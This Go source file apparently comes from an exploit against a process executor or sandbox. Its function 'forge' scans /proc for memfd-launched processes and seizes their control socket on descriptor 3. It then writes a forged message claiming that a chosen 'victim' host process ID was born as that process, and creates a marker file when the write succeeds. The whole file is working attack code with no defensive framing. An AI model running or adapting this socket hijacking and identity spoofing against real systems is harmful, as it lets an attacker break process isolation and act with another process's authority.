package main

import (
	"encoding/binary"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// forge takes the control socket of whoever enters and says in the executor's
// name that it was born as the process that is its argument, which is a number
// of the host's. The file that is its second argument appears when it did so.
func forge(args []string) error {
	victim, err := strconv.ParseUint(args[0], 10, 64)
	if err != nil {
		return err
	}
	born := binary.NativeEndian.AppendUint64(nil, 2)
	born = binary.NativeEndian.AppendUint64(born, victim)
	for {
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range dirs {
			exe, err := os.Readlink(dir + "/exe")
			if err != nil || !strings.HasPrefix(exe, "/memfd:") {
				continue
			}
			pid, _ := strconv.Atoi(filepath.Base(dir))
			fd, err := take(pid, 3)
			if err != nil {
				continue
			}
			if _, err := unix.Write(fd, born); err == nil {
				_ = os.WriteFile(args[1], nil, 0o644)
			}
			unix.Close(fd)
		}
	}
}
